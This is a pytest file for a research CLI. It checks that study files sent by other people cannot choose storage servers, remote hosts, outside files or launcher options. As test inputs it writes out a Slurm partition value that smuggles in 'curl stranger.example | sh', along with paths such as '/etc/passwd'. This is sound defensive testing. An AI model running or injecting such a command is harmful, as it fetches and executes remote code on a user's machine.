"""A file that somebody sent chooses no server, no other file and no launcher: only the command line asks for those."""

import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from command_line import TINY

from progrpo_cli.config.compose import compose
from progrpo_cli.config.demands import demands_of
from progrpo_cli.errors import RequestError
from progrpo_cli.evaluation.request import Request
from progrpo_cli.evaluation.targets import evaluate_target
from progrpo_cli.records.rundir import RunDirectory
from progrpo_cli.studies import start
from progrpo_cli.studies.open import Settings, fetch_plan
from progrpo_cli.studies.optuna_trials import OptunaStudy
from progrpo_cli.studies.plan import load_plan
from progrpo_cli.studies.planning import make_plan
from progrpo_cli.studies.space import parse_space
from progrpo_cli.studies.storage import open_store
from progrpo_cli.studies.trust import refuse_slurm_options

SECRET = "tr0ub4dor"
SPACE = {
    "parameters": {"method.arm.alpha": [0.3]},
    "overrides": ["method=progrpo", *TINY, "tracking.wandb.mode=disabled"],
    "seeds": [0],
    "objectives": [{"metric": "pass@1"}],
    "k": [1],
    "workers": 1,
}
ASKS: list[Callable[[str], object]] = [
    lambda study: start.status(study, None),
    lambda study: start.work(study, None),
]


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory, and a user who keeps a key and has a database's password."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ".state"))
    monkeypatch.setenv("PGPASSWORD", SECRET)
    return tmp_path


@pytest.fixture
def server() -> Iterator[socket.socket]:
    """Somebody else's server, which notices whoever comes."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def sent_study(directory: Path, **changes: object) -> Path:
    """A study directory as somebody else's machine made it."""
    plan = make_plan(parse_space(SPACE, "sent"), [], directory)
    directory.mkdir(parents=True)
    (directory / "study.yaml").write_text(yaml.safe_dump({**plan.frozen(), **changes}))
    return directory


def own_study(directory: Path, storage: str | None = None) -> Path:
    """A study as a command of this user begins it: planned, nothing run."""
    plan = make_plan(parse_space(SPACE, "own"), [], directory, storage=storage)
    plan.freeze()
    OptunaStudy(plan, open_store(directory, storage))
    return directory


def state(directory: Path) -> dict[str, tuple[int, int]]:
    return {str(p): (p.lstat().st_mtime_ns, p.lstat().st_size) for p in directory.rglob("*")}


def refused(words: str, asks: Callable[[], object]) -> str:
    before = state(Path.cwd())
    with pytest.raises(RequestError) as caught:
        asks()
    assert words in str(caught.value)
    assert state(Path.cwd()) == before
    return str(caught.value)


@pytest.mark.parametrize("asks", ASKS)
def test_a_sent_study_chooses_no_database(server: socket.socket, asks: Callable[[str], object]) -> None:
    url = f"postgresql+psycopg://me@127.0.0.1:{server.getsockname()[1]}/db"
    sent_study(Path("sent"), storage=url)
    refused(f"sets storage={url}", lambda: asks("sent"))
    with pytest.raises(BlockingIOError):
        server.accept()


@pytest.mark.parametrize("asks", ASKS)
def test_a_sent_study_chooses_no_file(here: Path, asks: Callable[[str], object]) -> None:
    url = f"sqlite:///{here / 'elsewhere'}"
    sent_study(Path("sent"), storage=url)
    refused(f"sets storage={url}", lambda: asks("sent"))
    assert start.status("sent", None, url)["trials"] == []  # the command line says the same
    assert not (here / "elsewhere").exists()


@pytest.mark.parametrize("asks", ASKS)
def test_a_password_in_a_sent_study_is_neither_used_nor_shown(
    server: socket.socket, asks: Callable[[str], object]
) -> None:
    sent_study(Path("sent"), storage=f"postgresql+psycopg://me:{SECRET}@127.0.0.1:{server.getsockname()[1]}/db")
    assert SECRET not in refused("a password", lambda: asks("sent"))
    with pytest.raises(BlockingIOError):
        server.accept()


def test_a_sweep_does_not_take_the_storage_of_a_study_that_was_put_there(here: Path) -> None:
    Path("mine.yaml").write_text(yaml.safe_dump(SPACE))
    sent_study(Path("runs/mine"), storage=f"sqlite:///{here / 'elsewhere'}")
    refused("sets storage=sqlite", lambda: start.sweep("mine.yaml", [], Settings(), study=None, dry_run=False))


@pytest.mark.parametrize("database", [None, "a.db"])
def test_status_of_our_own_study_needs_no_repeating_and_writes_nothing(here: Path, database: str | None) -> None:
    study = own_study(Path("runs/own"), database and f"sqlite:///{here / database}")
    assert load_plan(study).is_ours == (database is not None)  # signed where there is something to sign for
    for _ in range(2):
        before = state(here)
        assert [row["status"] for row in start.status("own", None)["runs"]] == ["planned"]
        assert state(here) == before
        (here / (database or study / "optuna.journal")).unlink(missing_ok=True)  # nor is it made anew


def test_a_signature_is_of_the_very_file() -> None:
    study = own_study(Path("runs/own"), f"sqlite:///{Path.cwd() / 'a.db'}")
    held = yaml.safe_load((study / "study.yaml").read_text())
    (study / "study.yaml").write_text(yaml.safe_dump({**held, "storage": "sqlite:////tmp/other"}))
    refused("sets storage=sqlite:////tmp/other", lambda: start.status("own", None))


def test_what_a_storage_holds_is_not_signed_on_arrival() -> None:
    study = own_study(Path("runs/own"), f"sqlite:///{Path.cwd() / 'a.db'}")
    for name in ("study.yaml", ".study.signature"):
        (study / name).unlink()
    fetch_plan("own", f"sqlite:///{Path.cwd() / 'a.db'}")
    assert not load_plan(study).is_ours


HOSTS = {
    "tracking.wandb.mode": "online",
    "tracking.wandb.entity": "stranger",
    "train.generation.server_url": "http://stranger.example",
    "task.dataset": "/etc/passwd.jsonl",
    "model.path": "/somewhere/else",
}
"""What a file may not ask for, and how."""
WITH = {
    "train.generation.server_url": ["train.generation.backend=vllm", "train.generation.mode=server"],
    "task.dataset": ["task=math500"],
}


@pytest.mark.parametrize("key", HOSTS)
def test_a_space_names_no_host_and_no_file_from_elsewhere(key: str) -> None:
    setting = f"{key}={HOSTS[key]}"
    space = parse_space({**SPACE, "overrides": ["method=progrpo", *WITH.get(key, []), setting]}, "sent")
    file = Path("sent.yaml")
    refused(f"the space sets {setting}", lambda: make_plan(space, [], Path("study"), space_file=file))
    make_plan(space, [setting], Path("study"), space_file=file)
    make_plan(space, [], Path("study"), space_file=file, trusted=True)


@pytest.mark.parametrize("key", HOSTS)
def test_a_study_names_no_host_and_no_file_from_elsewhere(key: str) -> None:
    config = compose([*WITH.get(key, []), f"{key}={HOSTS[key]}"]).model_dump(mode="json")
    sent_study(Path("sent"), bases=[{"choices": {}, "config": config}])
    refused(f"sets {key}={HOSTS[key]}", lambda: start.work("sent", None))


def test_files_beside_a_space_came_with_it(tmp_path: Path) -> None:
    (tmp_path / "problems.jsonl").write_text("")
    inside = compose(["task=math500", f"task.dataset={tmp_path / 'problems.jsonl'}"])
    assert demands_of(inside, tmp_path) == {}
    assert demands_of(inside, tmp_path / "elsewhere").keys() == {"task.dataset"}
    (tmp_path / "link.jsonl").symlink_to("/etc/hostname")
    linked = compose(["task=math500", f"task.dataset={tmp_path / 'link.jsonl'}"])
    assert demands_of(linked, tmp_path).keys() == {"task.dataset"}


@pytest.mark.parametrize("key", ["tracking.wandb.mode", "tracking.wandb.entity", "task.dataset"])
def test_a_run_names_no_host_and_no_file_from_elsewhere(key: str) -> None:
    config = compose([*WITH.get(key, []), f"{key}={HOSTS[key]}"])
    run = RunDirectory(Path("sent"))
    run.start(config, model="progrpo/lab-base", study=None)
    assert run.demands() == {}  # this user's own
    run.update(config_signature="0" * 64)
    refused(f"sets {key}={HOSTS[key]}", lambda: evaluate_target(run, Request(ks=[1])))


def test_slurm_is_told_nothing_that_is_a_command_or_leads_elsewhere() -> None:
    with pytest.raises(RequestError, match="one line"):
        parse_space({**SPACE, "slurm": {"partition": "x\ncurl stranger.example | sh"}}, "sent")
    plan = make_plan(
        parse_space({**SPACE, "slurm": {"partition": "x", "mail_user": "a@b.example"}}, "sent"), [], Path()
    )
    with pytest.raises(RequestError, match=r"slurm\.mail_user=a@b\.example"):
        refuse_slurm_options(plan, Path("sent.yaml"))
    refuse_slurm_options(plan, None)  # a shipped space


def test_a_password_of_a_server_is_refused() -> None:
    with pytest.raises(RequestError, match="without a user or password"):
        compose(["train.generation.server_url='http://me:secret@host:8000'"])
